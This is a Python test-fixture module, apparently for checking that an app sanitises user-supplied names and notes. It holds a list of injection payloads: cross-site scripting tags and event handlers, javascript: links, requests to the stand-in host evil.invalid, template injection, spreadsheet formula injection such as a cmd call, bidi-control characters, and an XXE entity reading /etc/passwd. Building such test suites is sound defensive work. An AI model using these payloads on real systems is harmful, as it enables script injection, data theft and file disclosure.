"""Texts of people who mean harm: each tries to run a script, to call a foreign server or to break what it stands in.

``window.__harm`` is what the scripts would set; ``evil.invalid`` is whom they would call.
"""

CALL = "https://evil.invalid/x"
RUN = "window.__harm=1"

STRINGS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</desc></svg><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f'<img src="{CALL}.png">',
    f"![x]({CALL}.png)",
    f"[lien](javascript:{RUN})",
    f'<a href="javascript:{RUN}">Lyon</a>',
    f"<svg onload={RUN}>",
    f'<svg><image href="{CALL}.svg"/></svg>',
    f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>",
    f'<svg><use href="{CALL}#x"/></svg>',
    f"<style>@import url({CALL}.css)</style>",
    f"<link rel=stylesheet href={CALL}.css>",
    f'<iframe src="{CALL}"></iframe>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<object data="{CALL}"></object>',
    f'<base href="{CALL}/">',
    f'<meta http-equiv="refresh" content="0;url={CALL}">',
    f'<form action="{CALL}"><button>Lyon</button></form>',
    f"<details open ontoggle={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f"{{{{ constructor.constructor('{RUN}')() }}}}",
    "{{ 7 * 7 }}{% raw %}{# x #}",
    "%{x}%{customdata}<extra></extra>",
    '<b>Lyon</b><br><a href="https://evil.invalid">x</a>',
    "&lt;script&gt;&#60;script&#62;&#x3c;b&#x3e;",
    "=HYPERLINK(&quot;https://evil.invalid&quot;;1)",
    '=cmd|" /C calc"!A0',
    "+1+1 Lyon",
    "-2+3 Lyon",
    "@SUM(A1:A9) Lyon",
    "\u202eLyon\u202c \u200bEssaim \u2066x\u2069",
    '\\u003cscript\\u003e";alert(1);//\\',
    "<?xml-stylesheet href='https://evil.invalid/x.xsl'?><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "&x; %x; <![CDATA[" + "é" * 60,
)
"""Names, handles, notes and sources."""
